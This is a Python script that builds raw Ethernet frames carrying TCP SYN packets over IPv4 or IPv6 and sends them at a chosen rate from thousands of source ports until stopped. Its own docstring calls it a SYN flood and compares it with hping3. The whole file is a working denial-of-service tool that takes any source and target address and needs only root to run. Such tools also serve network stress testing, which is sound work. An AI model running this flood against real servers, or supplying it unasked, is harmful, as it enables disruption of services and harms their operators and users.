# SPDX-License-Identifier: BSD-3-Clause
"""A flood of SYNs of either family, from many ports, until it is ended: hping3 knows
no IPv6, and knows no rate that a link in between can carry.

usage: flood.py INTERFACE OUR_MAC SERVER_MAC SOURCE TARGET PORT PER_SECOND   (as root)
"""
import ipaddress
import signal
import socket
import struct
import sys
import time

SOURCE_PORTS = 4096
BATCH_SECONDS = 0.005


def octets(mac):
    return bytes.fromhex(mac.replace(':', ''))


def checksum(data):
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(source, target, source_port, port):
    """From the IP header on."""
    tcp = struct.pack('!HHIIHHHH', source_port, port, source_port * 65537, 0, 0x5002, 65535, 0, 0)
    pseudo = source.packed + target.packed + struct.pack('!II', len(tcp), socket.IPPROTO_TCP)
    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp)) + tcp[18:]
    if source.version == 6:
        return struct.pack('!IHBB', 6 << 28, len(tcp), socket.IPPROTO_TCP, 64) \
            + source.packed + target.packed + tcp
    head = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0) \
        + source.packed + target.packed
    return head[:10] + struct.pack('!H', checksum(head)) + head[12:] + tcp


def frames(our_mac, server_mac, source, target, port):
    source, target = ipaddress.ip_address(source), ipaddress.ip_address(target)
    kind = 0x86dd if source.version == 6 else 0x0800
    head = octets(server_mac) + octets(our_mac) + struct.pack('!H', kind)
    return [head + syn(source, target, 1024 + i, port) for i in range(SOURCE_PORTS)]


def flood(sock, made, per_second):
    sent, start = 0, time.monotonic()
    while True:
        for _ in range(int((time.monotonic() - start) * per_second) - sent):
            try:
                sock.send(made[sent % len(made)])
            except OSError:
                pass                    # The interface's queue is full.
            sent += 1
        time.sleep(BATCH_SECONDS)


def main(interface, our_mac, server_mac, source, target, port, per_second):
    signal.signal(signal.SIGINT, lambda *_: sys.exit(0))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((interface, 0))
        flood(sock, frames(our_mac, server_mac, source, target, int(port)), int(per_second))


if __name__ == '__main__':
    main(*sys.argv[1:])
